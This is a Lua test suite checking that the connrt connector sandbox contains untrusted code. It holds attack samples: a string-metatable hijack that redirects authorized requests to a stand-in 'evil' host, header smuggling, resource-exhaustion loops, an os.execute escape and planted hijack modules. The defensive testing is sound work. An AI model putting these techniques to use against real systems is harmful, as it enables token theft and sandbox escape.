-- luacheck: std +busted
-- Connector code is isolated from the runtime and bounded (issue 13, items 1, 2 and 4):
-- it cannot change anything the runtime uses (the string metatable above all), the
-- final URL of a request is checked against the allowed URLs where it is handed to
-- libcurl, a file given to `connrt run` only ever runs as a connector, and every piece of
-- connector code (load, hooks, metamethods, finalizers) runs under a time and a memory
-- bound whose breach is a connector error (exit 3) naming the file, with nothing stored.
-- The commands that could hang on a broken sandbox run with a kill timeout, so a
-- regression fails here instead of stalling the suite.
local cjson = require("cjson")
local connector = require("connrt.connector")
local h = require("support.helpers")
local prov = require("support.provider")
local sandbox = require("connrt.sandbox")

local EXIT_CONNECTOR = 3
local LIMIT = 60 -- seconds before a command that should have been stopped is killed

-- A valid connector's table, as source, for the unit specs.
local VALID = [[{
  id = "demo", authorize_url = "https://auth.example.com/a", token_url = "https://auth.example.com/t",
  test = "/me", name = "{{name}}", unique_id = "{{id}}", allowed_urls = { "https://api.example.com" },
  request = { headers = { Authorization = "Bearer {{access_token}}" } },
  hooks = { expired = function(r) %s return false end },
}]]

describe("connector sandbox", function()
  describe("the runtime's own libraries", function()
    local names = { "byte", "char", "find", "format", "gmatch", "gsub", "len", "lower", "match", "rep",
      "reverse", "sub", "upper", "pack", "unpack" }

    -- Connector code that replaces every string function, through the string metatable
    -- and the global string table, and then the metatable's __index itself.
    local TAMPER = [[
      local mt = getmetatable("")
      for _, n in ipairs({ "byte", "char", "find", "format", "gmatch", "gsub", "len", "lower", "match", "rep",
        "reverse", "sub", "upper", "pack", "unpack" }) do
        pcall(function() mt.__index[n] = function() return "tampered" end end)
        string[n] = function() return "tampered" end
      end
      pcall(function() mt.__index = setmetatable({}, { __index = function() return function() return "tampered" end end }) end)
      pcall(function() mt.__concat = function() return "tampered" end end)
    ]]

    local function runtime_intact(saved)
      assert.equal(string, getmetatable("").__index)
      for _, n in ipairs(names) do assert.equal(saved[n], string[n], n) end
      assert.equal("b", ("abc"):match("b"))
      assert.equal("aXc", (("abc"):gsub("b", "X")))
      assert.equal("ab", "a" .. "b")
      local url = require("connrt.url")
      assert.equal("https://api.example.com/x?a=1", url.add_query("https://api.example.com/x", { { "a", "1" } }))
      assert.is_true((url.allowed("https://api.example.com/x", { "https://api.example.com" })))
    end

    it("stay as they are whatever a connector does to its own, at load and in hooks", function()
      local saved = {}
      for _, n in ipairs(names) do saved[n] = string[n] end
      local c = connector.load_source(TAMPER .. "return " .. VALID:format(TAMPER), "tamper.lua")
      runtime_intact(saved)
      assert.is_false(connector.call_hook(c, "expired", { status = 200, headers = {}, body = "" }))
      runtime_intact(saved)
    end)

    it("are not reachable: no runtime table comes into the sandbox, only copies", function()
      local c = connector.load_source("return " .. VALID:format([[
        r.headers.x = "changed"; r.list[1] = "changed"
        if type(r.fn) == "function" then r.fn() end ]]), "copy.lua")
      local headers, list = { x = "kept" }, { "kept" }
      local called = false
      connector.call_hook(c, "expired", { status = 200, headers = headers, list = list, body = "",
        fn = function() called = true end })
      assert.same({ x = "kept" }, headers)
      assert.same({ "kept" }, list)
      assert.is_true(called) -- a runtime function handed to a hook runs as itself
    end)

    it("fail the hook, not connrt, when a runtime function's result is too deep to copy back", function()
      -- hooks.lookup's api.get hands the provider's JSON back: 150 levels deep is the
      -- provider's doing, a connector error (was an internal error, exit 70)
      local c = connector.load_source("return " .. VALID:format([[ if type(r.fn) == "function" then r.fn() end ]]),
        "deep.lua")
      local deep = {}
      for _ = 1, 150 do deep = { deep } end
      local ok, e = pcall(connector.call_hook, c, "expired", { status = 200, headers = {}, body = "",
        fn = function() return deep end })
      assert.is_false(ok)
      assert.is_true(require("connrt.errors").is(e), tostring(e))
      assert.same({ "connector", "hook_failed" }, { e.kind, e.reason })
      assert.matches("cannot pass the result back to the connector: tables nested more than 100 deep", e.message, 1, true)
    end)
  end)

  describe("pattern matching inside the sandbox", function()
    -- Lua's patterns, reimplemented with a step budget: the same results and the same
    -- errors as the standard library on generated patterns and subjects.
    it("gives the results and errors of Lua's own string functions", function()
      local box = sandbox.new()
      local ok, api = box:run([[return {
        find = function(...) return string.find(...) end,
        match = function(...) return string.match(...) end,
        gsub = function(...) return string.gsub(...) end,
        gmatch = function(s, p, i)
          local out = {}
          for a, b in string.gmatch(s, p, i) do
            out[#out + 1] = tostring(a) .. "|" .. tostring(b)
            if #out > 20 then break end
          end
          return table.concat(out, ",")
        end,
      }]], "@d.lua")
      assert.is_true(ok, api)
      local real = {
        find = string.find, match = string.match, gsub = string.gsub,
        gmatch = function(s, p, i)
          local out = {}
          for a, b in string.gmatch(s, p, i) do
            out[#out + 1] = tostring(a) .. "|" .. tostring(b)
            if #out > 20 then break end
          end
          return table.concat(out, ",")
        end,
      }
      local atoms = { "a", "b", ".", "%a", "%d", "%s", "%A", "%z", "[ab]", "[^a]", "[a-c]", "[%a_]", "%%", "%.",
        "(", ")", "()", "%1", "%2", "%b()", "%f[%a]", "^", "$", "[", "%", "]", "[]]", "[^]]", "[a-]" }
      local quants = { "", "", "", "*", "+", "-", "?" }
      local subjects = { "", "a", "aab", "ba(b)a", "a1 b2", "((a))", "a.b", "]a[", "abc abc", "a\0b", "  a  " }
      local function norm(ok2, ...)
        local t = { tostring(ok2) }
        for i = 1, select("#", ...) do t[#t + 1] = tostring((select(i, ...))) end
        return (table.concat(t, "\t"):gsub("[^\t]*:%d+: ", ""))
      end
      math.randomseed(13)
      local compared = 0
      for _ = 1, 2500 do
        local p = {}
        for _ = 1, math.random(1, 5) do p[#p + 1] = atoms[math.random(#atoms)] .. quants[math.random(#quants)] end
        p = table.concat(p)
        local s = subjects[math.random(#subjects)]
        local init = ({ false, 1, 2, -1, -3, 10, 0 })[math.random(7)] or nil
        for _, fn in ipairs({ "find", "match", "gsub", "gmatch" }) do
          local args = { s, p, init }
          if fn == "gsub" then args = { s, p, ({ "<%0>", "%1", "x", "%%", "%" })[math.random(5)], init and math.abs(init) } end
          local want = norm(pcall(real[fn], table.unpack(args, 1, 4)))
          local res = table.pack(api[fn](table.unpack(args, 1, 4)))
          local got = res[1] and norm(table.unpack(res, 1, res.n)) or norm(false, res[2])
          assert.equal(want, got, ("%s(%q, %q, %s)"):format(fn, s, p, tostring(init)))
          compared = compared + 1
        end
      end
      assert.equal(10000, compared)
    end)

    it("keeps table.insert, remove and move as Lua's, though they are Lua code inside", function()
      local box = sandbox.new()
      local src = [[
        local out = {}
        local function snap(t) local s = {} for i = 1, 6 do s[i] = tostring(t[i]) end return table.concat(s, ",") end
        local t = { 1, 2, 3 } table.insert(t, 4) out[#out + 1] = snap(t)
        table.insert(t, 1, 0) out[#out + 1] = snap(t)
        table.insert(t, 3, "x") out[#out + 1] = snap(t)
        out[#out + 1] = tostring(table.remove(t)) .. ";" .. snap(t)
        out[#out + 1] = tostring(table.remove(t, 1)) .. ";" .. snap(t)
        out[#out + 1] = tostring(table.remove({})) .. ";" .. tostring(table.remove({}, 1))
        out[#out + 1] = snap(table.move({ 1, 2, 3, 4, 5 }, 2, 4, 1))
        out[#out + 1] = snap(table.move({ 1, 2, 3, 4, 5 }, 1, 3, 3))
        out[#out + 1] = snap(table.move({ 1, 2, 3 }, 1, 3, 2, { 9, 9, 9, 9 }))
        for _, bad in ipairs({ function() table.insert({}, 5, 1) end, function() table.remove({ 1 }, 5) end,
          function() table.insert({}, 1, 2, 3) end, function() table.insert({}, 1.5, 2) end }) do
          local ok, err = pcall(bad)
          out[#out + 1] = tostring(ok) .. ":" .. tostring(err):gsub("^.-:%d+: ", "")
        end
        return table.concat(out, "|")
      ]]
      local ok, got = box:run(src, "=t")
      assert.is_true(ok, got)
      local want = assert(load(src, "=t", "t", _ENV))()
      assert.equal(want, got)
    end)

    it("charges the sandbox's budget for backtracking, which stops at it", function()
      local box = sandbox.new({ instructions = 2e6 })
      local ok, msg, reason = box:run("local s = ('a'):rep(25) return s:find(('a*'):rep(25) .. 'b')", "@pat.lua")
      assert.is_false(ok)
      assert.equal("time", reason)
      assert.matches("pat.lua:1: instruction budget exceeded", msg, 1, true)
    end)

    it("is bounded in the runtime too, for a field's pattern", function()
      local s, e = sandbox.find("abc", "b")
      assert.same({ 2, 2 }, { s, e })
      local ok, err = pcall(sandbox.find, ("a"):rep(30), ("a*"):rep(30) .. "b")
      assert.is_false(ok)
      assert.matches("pattern too complex for this text", err, 1, true)
      local f = { key = "k", pattern = ("a*"):rep(30) .. "b" }
      local fine, why = connector.check_field_value(f, ("a"):rep(30))
      assert.is_false(fine)
      assert.matches("cannot be checked against the pattern", why, 1, true)
    end)
  end)

  describe("limits, each a connector error that names the file #integration", function()
    local tmp
    setup(function() tmp = h.tmpdir() end)
    teardown(function() h.rmdir(tmp) end)

    -- `connrt check` and `connrt run` on a connector whose loading does `code`.
    local function both(name, code, env)
      local path = tmp .. "/" .. name .. ".lua"
      h.write(path, code .. "\nreturn " .. VALID:format(""))
      local home = h.tmpdir()
      local e = { CONNRT_HOME = home }
      for k, v in pairs(env or {}) do e[k] = v end
      local check = h.connrt({ "check", path }, { env = e, timeout = LIMIT })
      local run = h.connrt({ "run", path, "--client-id", "c", "--no-browser", "--timeout", "1" }, { env = e, timeout = LIMIT })
      local stored = h.read(home .. "/data.mdb")
      h.rmdir(home)
      return check, run, path, stored
    end

    local CASES = {
      { "a loop inside pcall, in a loop", "local n = 0 while true do pcall(function() while true do n = n + 1 end end) end",
        "instruction budget exceeded" },
      { "a loop that catches the budget's error and goes on",
        "for i = 1, 1e12 do local ok = pcall(function() for j = 1, 1e12 do end end) if not ok then i = i end end",
        "instruction budget exceeded" },
      { "a backtracking pattern (one C call)", "local x = ('a'):rep(25):find(('a*'):rep(25) .. 'b')",
        "instruction budget exceeded" },
      { "a loop in a table.sort comparator (no yield possible)",
        "table.sort({ 3, 2, 1, 5, 4 }, function(a, b) while true do end end)", "instruction budget exceeded" },
      { "a loop in a gsub replacement function", "local x = ('aaa'):gsub('a', function() while true do end end)",
        "instruction budget exceeded" },
      { "a loop in an __index metamethod", "local t = setmetatable({}, { __index = function() while true do end end }) local x = t.y",
        "instruction budget exceeded" },
      { "a loop in a message handler", "xpcall(error, function() while true do end end)", "instruction budget exceeded" },
      { "a loop of linear C calls on big strings (the CPU bound)",
        "local s = ('a'):rep(8e6) local p = ('a'):rep(4e6) .. 'b' while true do local x = s:find(p, 1, true) end",
        "CPU time limit of 1 s exceeded", { CONNRT_CONNECTOR_CPU = "1" } },
      { "1 GiB of string at load", "local x = ('x'):rep(2^30)", "memory limit of 64 MiB exceeded" },
      { "memory grown a table at a time", "local t = {} for i = 1, 1e9 do t[i] = ('y'):rep(1000) .. i end",
        "memory limit of 16 MiB exceeded", { CONNRT_CONNECTOR_MEMORY = "16" } },
      { "string.rep of an empty string a maxinteger times (a C loop that allocates nothing)",
        "local x = string.rep('', math.maxinteger) while true do end", "instruction budget exceeded" },
      { "table.move over a maxinteger range", "table.move({}, 1, math.maxinteger - 1, 1)", "instruction budget exceeded" },
      { "table.remove with an endless __len", "table.remove(setmetatable({}, { __len = function() return math.maxinteger end }), 1)",
        "instruction budget exceeded" },
      { "table.insert with an endless __len",
        "table.insert(setmetatable({}, { __len = function() return math.maxinteger - 1 end }), 1, 'x')",
        "instruction budget exceeded" },
      { "a JSON encoding larger than the memory limit",
        "local s = ('x'):rep(16 * 1024 * 1024) local t = {} for i = 1, 200 do t[i] = s end local j = connrt.json.encode(t)",
        "memory limit of 64 MiB exceeded" },
      { "a pattern with a huge character set", "local x = string.find(('x'):rep(5000), '[' .. ('a'):rep(20 * 2^20) .. ']')",
        "instruction budget exceeded" },
      { "a finalizer, which would run outside every budget", "setmetatable({}, { __gc = function() while true do end end })",
        "connectors cannot set __gc" },
      { "a finalizer slipped in as false", "local mt = { __gc = false } setmetatable({}, mt) mt.__gc = function() end",
        "connectors cannot set __gc" },
    }

    for _, case in ipairs(CASES) do
      it("stops " .. case[1], function()
        local check, run, path, stored = both(case[1]:gsub("%W+", "-"), case[2], case[4])
        for _, res in ipairs({ check, run }) do
          assert.equal(EXIT_CONNECTOR, res.code, res.stdout .. res.stderr)
          -- a budget of instructions, or (first, on a slow build: make sanitize) of CPU time
          local out = res.stdout .. res.stderr
          if case[3] ~= "instruction budget exceeded" or not out:find("CPU time limit of", 1, true) then
            assert.matches(case[3], out, 1, true)
          end
          assert.matches(path, res.stdout .. res.stderr, 1, true)
          assert.is_nil((res.stdout .. res.stderr):find("traceback", 1, true))
        end
        assert.is_nil(stored) -- no store was even made
      end)
    end

    it("copies a value that shares one table at every level once, not once per path", function()
      -- 2^23 paths to one table: copied path by path, 1.6 GB in the runtime
      local path = tmp .. "/dag.lua"
      h.write(path, "local t = {} for i = 1, 23 do t = { [true] = t, [false] = t } end\nreturn " .. VALID:format(""):gsub("^{", "{ x = t,"))
      local res = h.connrt({ "check", path }, { timeout = LIMIT, max_rss = true })
      assert.equal(EXIT_CONNECTOR, res.code, res.stderr)
      assert.matches("x: unknown key", res.stdout, 1, true)
      assert.is_true(res.max_rss_kb < 400 * 1024, "peak RSS " .. tostring(res.max_rss_kb) .. " KiB")
    end)

    it("refuses a field's pattern too long to match in bounded time, and bounds the match itself", function()
      local path = tmp .. "/fieldpat.lua"
      h.write(path, "return " .. VALID:format(""):gsub("^{", ("{ fields = { { key = 'k', default = ('x'):rep(2000), "
        .. "pattern = '[' .. ('a'):rep(%d) .. 'x]*' } },"):format(2 * 1024 * 1024)))
      local res = h.connrt({ "check", path }, { timeout = LIMIT })
      assert.equal(EXIT_CONNECTOR, res.code, res.stderr)
      assert.matches("a pattern of", res.stdout, 1, true)
    end)

    it("never runs an error object's __tostring", function()
      local check, run = both("tostring", "error(setmetatable({}, { __tostring = function() while true do end end }))")
      for _, res in ipairs({ check, run }) do
        assert.equal(EXIT_CONNECTOR, res.code, res.stderr)
        assert.matches("an error object: a table", res.stdout .. res.stderr, 1, true)
      end
    end)

    it("never runs metamethods of the table a connector returns", function()
      local path = tmp .. "/index.lua"
      h.write(path, "return setmetatable({}, { __index = function() while true do end end, __pairs = function() while true do end end })")
      local res = h.connrt({ "check", path }, { timeout = LIMIT })
      assert.equal(EXIT_CONNECTOR, res.code, res.stderr)
      assert.matches("id: is required", res.stdout, 1, true)
    end)
  end)

  describe("hooks under the same bounds #integration", function()
    local api, tmp
    local API_KEY = "sandbox-key-7d1c55e0"
    setup(function()
      tmp = h.tmpdir()
      api = h.start_upstream({ ECHO_API_KEY = API_KEY })
    end)
    teardown(function()
      api.stop()
      h.rmdir(tmp)
    end)

    -- A fields connection whose hooks.expired does `code` on the answer of /echo;
    -- `connrt request` then runs it (the connect asks the hook about the test API's
    -- answer too, which it leaves alone).
    local function request_with(name, code, env)
      local path = tmp .. "/" .. name .. ".lua"
      local hook = ("hooks = { expired = function(r) if r.body:find('\"url\":\"/echo\"', 1, true) then %s end "
        .. "return false end },\n    request = {"):format(code)
      h.write(path, (h.keyed_connector(api.base):gsub("request = {", hook, 1)))
      local home = h.tmpdir()
      local e = { CONNRT_HOME = home }
      for k, v in pairs(env or {}) do e[k] = v end
      local res = h.connrt({ "run", path, "--field", "api_key=" .. API_KEY }, { env = e, timeout = LIMIT })
      assert.equal(0, res.code, res.stderr)
      local before = h.snapshot(home)
      res = h.connrt({ "request", "keyed", "/echo" }, { env = e, timeout = LIMIT })
      local after = h.snapshot(home)
      h.rmdir(home)
      assert.same(before, after)
      return res, path
    end

    it("stops a hook that loops, in connrt request", function()
      local res, path = request_with("loop", "while true do end")
      assert.equal(EXIT_CONNECTOR, res.code, res.stderr)
      assert.matches(path .. ": hooks.expired failed: " .. path .. ":", res.stderr, 1, true)
      assert.matches("instruction budget exceeded", res.stderr, 1, true)
    end)

    it("stops a hook that takes too much memory, in connrt request", function()
      local res = request_with("mem", "local x = ('x'):rep(2^30)")
      assert.equal(EXIT_CONNECTOR, res.code, res.stderr)
      assert.matches("hooks.expired failed: memory limit of 64 MiB exceeded", res.stderr, 1, true)
    end)

    it("gives a hook at most 1 MiB of a response body", function()
      local res = request_with("big", [[if #r.body > 1048576 or (r.truncated and #r.body ~= 1048576) then error("body of " .. #r.body) end]])
      assert.equal(0, res.code, res.stderr)
    end)

    it("stops hooks.token_response that takes too much memory: nothing is stored", function()
      local p = prov.start()
      local path = tmp .. "/tr.lua"
      h.write(path, prov.connector("hooks = { token_response = function(r) local x = ('x'):rep(2^30) end },"))
      local home = h.tmpdir()
      local res = prov.run(p, path, home)
      p.stop()
      local stored = h.read(home .. "/data.mdb")
      local list = h.connrt({ "list", "--json" }, { env = { CONNRT_HOME = home } })
      h.rmdir(home)
      assert.equal(EXIT_CONNECTOR, res.code, res.stderr)
      assert.matches("hooks.token_response failed: memory limit", res.stderr, 1, true)
      assert.is_true(stored == nil or list.stdout == "[]\n", list.stdout)
    end)
  end)

  describe("tokens go only to the allowed URLs #integration", function()
    local api, evil, tmp
    local API_KEY = "sandbox-key-2b8e4f19"
    setup(function()
      tmp = h.tmpdir()
      api = h.start_upstream({ ECHO_API_KEY = API_KEY })
      evil = h.start_upstream()
    end)
    teardown(function()
      api.stop()
      evil.stop()
      h.rmdir(tmp)
    end)

    it("even when a connector rewrites the string functions the runtime builds URLs with", function()
      -- the attack of the issue: url.add_query splits the URL with string.match after the
      -- allowed-URL check; a connector that could replace string.match moved the request
      local path = tmp .. "/steal.lua"
      local attack = ([[
        local mt = getmetatable("")
        local real_match, real_find = mt.__index.match, mt.__index.find
        mt.__index.match = function(s, p, ...)
          if p == "^([^#]*)(#?.*)$" and real_find(s, %q, 1, true) then return %q, "" end
          return real_match(s, p, ...)
        end
      ]]):format(api.base, evil.base .. "/stolen")
      local src = attack .. h.keyed_connector(api.base):gsub("request = {", "request = { query = { v = \"1\" },", 1)
      h.write(path, src)
      local home = h.tmpdir()
      local env = { CONNRT_HOME = home }
      local res = h.connrt({ "run", path, "--field", "api_key=" .. API_KEY }, { env = env, timeout = LIMIT })
      assert.equal(0, res.code, res.stderr)
      res = h.connrt({ "request", "keyed", "/echo" }, { env = env, timeout = LIMIT })
      h.rmdir(home)
      assert.equal(0, res.code, res.stderr)
      assert.same({}, evil.log())
      for _, r in ipairs(api.log()) do assert.matches("v=1", r.url, 1, true) end
    end)

    it("and no connector header can point them at another host behind an allowed address", function()
      for _, name in ipairs({ "Host", "host", "Content-Length", "Transfer-Encoding", "Connection", "Upgrade" }) do
        local path = tmp .. "/hdr.lua"
        local hdr = ("request = { headers = { [%q] = \"other.example\","):format(name)
        h.write(path, (h.keyed_connector(api.base):gsub("request = { headers = {", hdr, 1)))
        local res = h.connrt({ "check", path }, { timeout = LIMIT })
        assert.equal(EXIT_CONNECTOR, res.code, name .. ": " .. res.stdout)
        assert.matches("is set by connrt's HTTP client, not by connectors", res.stdout, 1, true)
      end
      local client = require("connrt.http").client()
      local before = #api.log()
      local resp, err, code = client:request({ url = api.base .. "/echo", headers = { "Host: other.example" },
        allowed = { api.base } })
      assert.is_nil(resp)
      assert.equal("refused", code)
      assert.matches("cannot set the Host header", err, 1, true)
      assert.equal(before, #api.log())
    end)

    it("and the HTTP client refuses a URL under none of them before anything is sent", function()
      local client = require("connrt.http").client()
      local before = #evil.log()
      local resp, err, code = client:request({ url = evil.base .. "/echo", headers = { "Authorization: Bearer x" },
        allowed = { api.base } })
      assert.is_nil(resp)
      assert.equal("refused", code)
      assert.matches("refused before sending: it matches none of the allowed URLs", err, 1, true)
      for _, bad in ipairs({ api.base .. "/a/%2e%2e/b", api.base .. "\\x", "http://u@127.0.0.1:" .. api.port .. "/" }) do
        resp, err, code = client:request({ url = bad, allowed = { api.base } })
        assert.is_nil(resp, bad)
        assert.is_true(code == "refused" or code == "other", bad .. ": " .. tostring(err))
      end
      assert.equal(before, #evil.log())
      resp = client:request({ url = api.base .. "/echo", allowed = { api.base } })
      assert.equal(200, resp.status)
    end)
  end)

  describe("a file given to connrt run is a connector, only ever #integration", function()
    local tmp
    setup(function() tmp = h.tmpdir() end)
    teardown(function() h.rmdir(tmp) end)

    -- files that do something outside the sandbox, written in the shapes a connector can
    -- take; `connrt run` and `connrt check` must agree that each is an invalid connector,
    -- and neither may let it act; `connrt script` runs them, on purpose
    local SHAPES = {
      { "a table built first", "local c = %s\nlocal f = io.open(%q, 'w') f:write('x') f:close()\nreturn c" },
      { "a function returning the table", "return (function() local f = io.open(%q, 'w') f:close() return %s end)()" },
      { "a pipeline script", "local f = io.open(%q, 'w') f:close()\nprint(#connrt.list())" },
      { "require in a local", "local os2 = require('os') os2.execute('touch ' .. %q)\nreturn %s" },
    }

    for i, shape in ipairs(SHAPES) do
      it("refuses " .. shape[1] .. " that acts outside the sandbox, and never runs it another way", function()
        local mark = tmp .. "/mark" .. i
        local src
        if i == 1 then src = shape[2]:format(VALID:format(""), mark)
        elseif i == 2 then src = shape[2]:format(mark, VALID:format(""))
        elseif i == 3 then src = shape[2]:format(mark)
        else src = shape[2]:format(mark, VALID:format("")) end
        local path = tmp .. "/shape" .. i .. ".lua"
        h.write(path, src)
        local home = h.tmpdir()
        local run = h.connrt({ "run", path, "--client-id", "c", "--no-browser", "--timeout", "1" },
          { env = { CONNRT_HOME = home }, timeout = LIMIT })
        local check = h.connrt({ "check", path }, { env = { CONNRT_HOME = home }, timeout = LIMIT })
        assert.equal(EXIT_CONNECTOR, run.code, run.stdout .. run.stderr)
        assert.equal(EXIT_CONNECTOR, check.code, check.stdout .. check.stderr)
        assert.matches("connrt script", run.stderr, 1, true)
        assert.is_nil(h.read(mark), "the file acted outside the sandbox")
        local script = h.connrt({ "script", path }, { env = { CONNRT_HOME = home }, timeout = LIMIT })
        h.rmdir(home)
        assert.is_not_nil(h.read(mark), script.stderr)
      end)
    end
  end)

  describe("modules in the current directory #integration", function()
    it("are never loaded, by the runtime or inside a sandbox", function()
      local dir = h.tmpdir()
      local mark = dir .. "/PWNED"
      local plant = ("local f = io.open(%q, 'a') f:write(...) f:close()\n"):format(mark)
      assert(os.execute("mkdir -p " .. h.shell_quote(dir .. "/cjson") .. " " .. h.shell_quote(dir .. "/connrt")))
      for _, name in ipairs({ "cjson.lua", "cjson/safe.lua", "cjson.so", "connrt/url.lua", "connrt/sandbox_env.lua",
        "connrt/cli.lua" }) do
        h.write(dir .. "/" .. name, plant)
      end
      h.write(dir .. "/c.lua", "return " .. VALID:format("local j = connrt.json.decode('{}')"))
      local home = h.tmpdir()
      local cmds = { { "help" }, { "list" }, { "check", "c.lua" }, { "redirect-url" },
        { "run", "c.lua", "--client-id", "x", "--no-browser", "--timeout", "1" } }
      for _, args in ipairs(cmds) do
        local parts = {}
        for i, a in ipairs(args) do parts[i] = h.shell_quote(a) end
        os.execute(("cd %s && CONNRT_HOME=%s %s %s >/dev/null 2>&1"):format(h.shell_quote(dir), h.shell_quote(home),
          h.shell_quote(h.CONNRT), table.concat(parts, " ")))
        assert.is_nil(h.read(mark), table.concat(args, " ") .. " loaded a module from the current directory")
      end
      h.rmdir(dir)
      h.rmdir(home)
    end)
  end)

  it("reports its memory and keeps a stopped box stopped", function()
    local box = sandbox.new({ memory = 8 * 1024 * 1024 })
    local used, limit = box:memory()
    assert.is_true(used > 0 and used < limit)
    local ok, f = box:run("return function() return 1 end", "@f.lua")
    assert.is_true(ok)
    assert.same({ true, 1 }, { f() })
    assert.is_false((box:run("local x = ('x'):rep(2^24)", "@m.lua")))
    local ok2, msg, reason = f()
    assert.is_false(ok2)
    assert.equal("memory", reason)
    assert.matches("memory limit of 8 MiB exceeded", msg, 1, true)
    assert.equal("memory", select(2, box:stopped()))
    assert.is_not_nil(cjson)
  end)
end)
